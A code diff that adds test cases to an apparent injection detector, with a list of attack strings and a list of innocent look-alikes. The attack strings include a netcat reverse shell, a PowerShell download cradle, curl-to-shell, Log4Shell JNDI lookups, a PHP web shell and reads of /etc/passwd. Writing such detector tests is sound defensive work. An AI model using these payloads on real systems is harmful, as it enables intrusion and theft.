@@ -68,6 +68,30 @@ const ATTACKS: &[(Category, Source, &str)] = &[
     (Category::Xss, Source::User, "<svg/onload=confirm(document.domain)>"),
     (Category::Xss, Source::User, "<a href=\"javascript:alert(1)\">click</a>"),
     (Category::Xss, Source::User, "&lt;script&gt;alert(1)&lt;/script&gt;"),
+    // command injection: list operators, substitution, reverse shells, PowerShell, shellshock
+    (Category::CommandInjection, Source::User, "127.0.0.1; cat /etc/passwd"),
+    (Category::CommandInjection, Source::User, "name=x|nc 198.51.100.7 4444 -e /bin/sh"),
+    (Category::CommandInjection, Source::User, "file=$(whoami).txt"),
+    (Category::CommandInjection, Source::User, "q=`id`"),
+    (Category::CommandInjection, Source::Tool, "() { :; }; /bin/bash -c 'ping -c 1 203.0.113.9'"),
+    (Category::CommandInjection, Source::User, "x=1 && powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\""),
+    (Category::CommandInjection, Source::User, "host=example.org%3Bcurl%20http%3A%2F%2F203.0.113.9%2Fs%7Csh"),
+    (Category::PathTraversal, Source::User, "c'a't /e\"t\"c/pa[s]swd"),
+    (Category::CommandInjection, Source::User, "cat${IFS}/etc/hosts"),
+    // path traversal and file inclusion
+    (Category::PathTraversal, Source::User, "file=../../../../etc/passwd"),
+    (Category::PathTraversal, Source::User, "page=%2e%2e%2f%2e%2e%2f%2e%2e%2fwindows%2fwin.ini"),
+    (Category::PathTraversal, Source::User, "doc=..\\..\\..\\boot.ini"),
+    (Category::PathTraversal, Source::User, "include=php://filter/convert.base64-encode/resource=index.php"),
+    (Category::PathTraversal, Source::User, "template=../../../../var/www/config.php%00.html"),
+    // template and server-side code injection
+    (Category::CodeInjection, Source::User, "${jndi:ldap://203.0.113.9:1389/a}"),
+    (Category::CodeInjection, Source::User, "${${lower:j}ndi:rmi://203.0.113.9/x}"),
+    (Category::CodeInjection, Source::User, "name={{7*7}}"),
+    (Category::CodeInjection, Source::User, "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
+    (Category::CodeInjection, Source::User, "<?php system($_GET['c']); ?>"),
+    (Category::CodeInjection, Source::User, "x=T(java.lang.Runtime).getRuntime().exec('id')"),
+    (Category::CodeInjection, Source::User, "require('child_process').exec('id')"),
 ];
 
 /// Texts that use trigger words innocently; none may be flagged.
@@ -94,6 +118,16 @@ const BENIGN: &[(Source, &str)] = &[
     (Source::Document, "| Year | Team | Wins |\n| 2001 | Lions | 10 |\n| 2002 | Tigers | 8 |"),
     (Source::Tool, "{\"temperature\": 21, \"unit\": \"C\", \"city\": \"Lisbon\"}"),
     (Source::User, "Café naïve résumé — ¿Dónde está la biblioteca? 你好，世界 👋🏽"),
+    // shell, paths and code named in questions and ordinary code
+    (Source::User, "How do I use cat to print /etc/hosts on my laptop, and what does the file contain?"),
+    (Source::User, "What is stored in /etc/passwd on a Linux system, and why are passwords no longer kept there?"),
+    (Source::User, "In bash, what is the difference between `ls | grep foo` and `grep foo *`?"),
+    (Source::User, "import { helper } from '../utils/helper';\nexport const twice = (x) => helper(x) * 2;"),
+    (Source::User, "Explain what the Log4Shell vulnerability was and how teams patched it."),
+    (Source::User, "Why does my PHP page print <?php at the top instead of running the code?"),
+    (Source::User, "Cats & dogs; cat owners say one thing | dog owners another."),
+    (Source::Document, "| command | meaning |\n| ls | list files |\n| cat | print a file |\n| id | show the user |"),
+    (Source::User, "Please compute {{price}} times {{quantity}} in the invoice template."),
 ];
 
 #[test]
